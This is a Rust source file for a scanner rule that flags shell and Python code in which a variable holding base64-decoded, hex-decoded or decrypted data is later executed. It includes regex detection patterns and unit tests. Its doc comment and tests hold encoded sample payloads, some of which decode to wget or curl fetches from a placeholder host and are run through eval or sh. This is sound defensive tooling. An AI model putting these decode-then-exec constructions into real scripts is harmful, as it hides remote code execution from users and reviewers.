//! Decoded text run through a variable: `X=$(echo … | base64 -d)` then `eval "$X"`, or
//! `code = base64.b64decode(s)` then `exec(code)`. SK520 sees a decode piped straight into a
//! shell; splitting it over two statements must not hide it.

use super::finding;
use crate::registry::declare_rule;
use crate::rule::Language;
use crate::units::Unit;
use regex::Regex;
use skillgate_model::{Capability, Confidence, Finding, KillChainStage};
use std::collections::HashMap;

declare_rule! {
    /// ## What it does
    /// Follows a variable assigned from a decoding (`base64 -d`, `xxd -r`, `openssl … -d` in a
    /// shell command substitution; `b64decode`, `unhexlify`, `bytes.fromhex`, `zlib.decompress`,
    /// `marshal.loads` in Python) or a decryption, whatever the cipher (`Fernet(k).decrypt`,
    /// `AES.new(…).decrypt`, a `decrypt`/`xor` helper, bytes XORed with a key), to a later
    /// statement of the same script or code block that executes it: `eval "$X"`, `bash -c "$X"`,
    /// `$X` run as a command, `echo "$X" | sh`, `source <(echo "$X")`, `python3 -c "$X"`;
    /// `exec(x)`, `eval(x)`, `exec(compile(x, …))`, or the variable anywhere inside what
    /// `exec`, `eval` or `compile` is given (`exec(bytes(c ^ k for c in blob).decode())`).
    /// Fragments joined before decoding count the same: the join is part of the decoding line.
    ///
    /// ## Why is this risky?
    /// This is decode-then-exec (pattern SC3) with one indirection added to slip past
    /// line-based scanners. Nothing honest encodes a command only to run it.
    ///
    /// ## Example
    /// `STAGE=$(echo "d2dldCAtcSBodHRwczovL3guZXhhbXBsZS9sLnNv" | base64 -d)` then
    /// `eval "$STAGE"`
    pub struct DecodedVariableExecuted { code: "SK522", slug: "decoded-variable-executed", severity: Critical, summary: "a variable holding decoded data is executed" }
}

crate::pattern::lazy_regex! {
    SHELL_DECODED = r#"(?m)^[ \t]*(?:export\s+|local\s+|readonly\s+|declare\s+(?:-\w+\s+)*)?([A-Za-z_]\w*)=["']?(?:\$\(|`)[^\n]*?(?:\bbase(?:64|32)\s+(?:-\w+\s+)*?(?:-d|-D|--decode)\b|\bxxd\s+(?:-\w+\s+)*?-r\b|\bopenssl\s+(?:enc\s+)?(?:-\w+\s+)*?-d\b)"#;
    PYTHON_DECODED = r"(?m)^[ \t]*([A-Za-z_]\w*)\s*=\s*[^\n]*(?:\b(?:b64decode|b32decode|b16decode|b85decode|a85decode|urlsafe_b64decode|unhexlify|a2b_base64|a2b_hex|fromhex|decompress|marshal\.loads|decrypt\w*|xor\w*|_xor|unxor|rc4|decipher|deobfuscate|unscramble)\s*\(|\bbytes\s*\([^\n]*\^|\bchr\s*\([^\n]*\^|\^\s*\w+\s*\[[^\n]*\bfor\b)";
}

/// Literals every decoding the patterns above match contains: a unit without one is skipped.
const SHELL_DECODERS: &[&str] = &["base64", "base32", "xxd", "openssl"];
/// Words one of which a Python unit holds before it is searched: decoders, and the ciphers
/// (`Fernet(k).decrypt`, `AES.new(…).decrypt`, an XOR over bytes) whatever the cipher, since a
/// payload decrypted and then executed is decode-then-exec too.
const PYTHON_DECODERS: &[&str] = &[
    "decrypt",
    "xor",
    "^",
    "decipher",
    "decode",
    "unhexlify",
    "a2b_",
    "fromhex",
    "decompress",
    "marshal",
];

crate::pattern::lazy_regex! {
    /// The ways a shell runs the text a variable holds; the variable's name is the one group
    /// that took part.
    SHELL_RUNS = r#"(?m)\beval\s+["']?\$\{?([A-Za-z_]\w*)\b\}?["']?|\b(?:ba|z|da|k)?sh\s+-c\s+["']?\$\{?([A-Za-z_]\w*)\b\}?["']?|^[ \t]*["']?\$\{?([A-Za-z_]\w*)\b\}?["']?[ \t]*(?:$|;|&&|\|\|)|\b(?:echo|printf)\s+(?:-\w+\s+)*["']?\$\{?([A-Za-z_]\w*)\b\}?["']?\s*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\bsource\s+<\(\s*(?:echo|printf)[^)\n]*\$\{?([A-Za-z_]\w*)\b|\b(?:python[0-9.]*|node|perl|ruby)\s+-[ce]\s+["']?\$\{?([A-Za-z_]\w*)\b\}?["']?"#;
    /// The ways Python runs the text a name holds.
    PYTHON_RUNS = r"\b(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?([A-Za-z_]\w*)\b";
    /// `exec(bytes(c ^ k[i] for i, c in enumerate(blob)).decode())`: the decoded variable is
    /// anywhere in what is executed.
    PYTHON_RUN_LINE = r"\b(?:exec|eval|compile)\s*\(([^\n]*)";
    IDENTIFIER = r"[A-Za-z_]\w*";
}

/// Where `text` runs each variable, in order: one search for all of them, so a script of
/// thousands of decoded assignments is not searched again after each.
fn runs_by_name<'t>(runs: &Regex, text: &'t str) -> HashMap<&'t str, Vec<usize>> {
    let mut by_name: HashMap<&str, Vec<usize>> = HashMap::new();
    for c in runs.captures_iter(text) {
        if let (Some(whole), Some(name)) = (c.get(0), c.iter().skip(1).flatten().next()) {
            by_name
                .entry(name.as_str())
                .or_default()
                .push(whole.start());
        }
    }
    by_name
}

pub fn check(units: &[Unit], out: &mut Vec<Finding>) {
    for unit in units {
        let (decoded, runs, words): (&Regex, &Regex, &[&str]) = match unit.lang {
            Language::Shell => (&SHELL_DECODED, &SHELL_RUNS, SHELL_DECODERS),
            Language::Python => (&PYTHON_DECODED, &PYTHON_RUNS, PYTHON_DECODERS),
            _ => continue,
        };
        if !words.iter().any(|w| unit.text.contains(w)) {
            continue;
        }
        let mut ran: Option<HashMap<&str, Vec<usize>>> = None;
        let found = decoded.captures_iter(&unit.text).find_map(|c| {
            let after = c.get(0)?.end();
            let name = c.get(1)?.as_str();
            let ran = ran.get_or_insert_with(|| {
                let mut by_name = runs_by_name(runs, &unit.text);
                if unit.lang == Language::Python {
                    for c in PYTHON_RUN_LINE.captures_iter(&unit.text) {
                        let (Some(whole), Some(args)) = (c.get(0), c.get(1)) else {
                            continue;
                        };
                        for name in IDENTIFIER.find_iter(args.as_str()) {
                            let sites = by_name.entry(name.as_str()).or_default();
                            sites.push(whole.start());
                            sites.sort_unstable();
                        }
                    }
                }
                by_name
            });
            let sites = ran.get(name)?;
            let first_after = sites.get(sites.partition_point(|&at| at < after))?;
            Some((name.to_string(), *first_after))
        });
        let Some((name, at)) = found else {
            continue;
        };
        let (line, col) = unit.position(at);
        let mut f = finding(
            &DecodedVariableExecuted::INFO,
            Confidence::High,
            "obfuscation",
            format!("`{name}` holds decoded data and is then executed"),
        )
        .at(&unit.file, Some(line), Some(col))
        .with_evidence(unit.line_at(at))
        .with_capability(Capability::CodeDynamic)
        .with_stage(KillChainStage::DefenseEvasion);
        f.taxonomy = vec!["SC3".into()];
        out.push(f);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn codes(lang: Language, text: &str) -> usize {
        let mut out = Vec::new();
        check(&[Unit::new("SKILL.md", lang, text, 1)], &mut out);
        out.len()
    }

    #[test]
    fn decoded_variables_that_run_are_found() {
        for script in [
            "X=$(echo -n \"Y3VybCBodHRwczovL3guZXhhbXBsZQ==\" | base64 -d)\neval \"$X\"\n",
            "STAGE1=$(echo \"d2dldA==\" | base64 --decode)\nSTAGE2=$(echo \"bHM=\" | base64 -d)\neval \"$STAGE1\" && eval \"$STAGE2\"\n",
            "P=`echo 6c73 | xxd -r -p`\nbash -c \"$P\"\n",
            "CMD=$(base64 -d payload.b64)\n$CMD\n",
            "C=$(echo aGk= | base64 -d)\necho \"$C\" | sh\n",
        ] {
            assert_eq!(codes(Language::Shell, script), 1, "{script}");
        }
        assert_eq!(
            codes(
                Language::Python,
                "import base64\ncode = base64.b64decode(blob).decode()\nexec(code)\n"
            ),
            1
        );
    }

    #[test]
    fn decoded_data_that_is_only_used_is_not() {
        for script in [
            "IMG=$(base64 -d logo.b64)\necho \"$IMG\" > logo.png\n",
            "X=$(echo aGk= | base64 -d)\necho \"decoded: $X\"\n",
            "eval \"$X\"\nX=$(echo aGk= | base64 -d)\n",
            "CFG=$(base64 -d cfg.b64)\neval \"$(ssh-agent -s)\"\n",
        ] {
            assert_eq!(codes(Language::Shell, script), 0, "{script}");
        }
        assert_eq!(
            codes(
                Language::Python,
                "data = base64.b64decode(blob)\nresult = json.loads(data)\nexec(other)\n"
            ),
            0
        );
    }
}
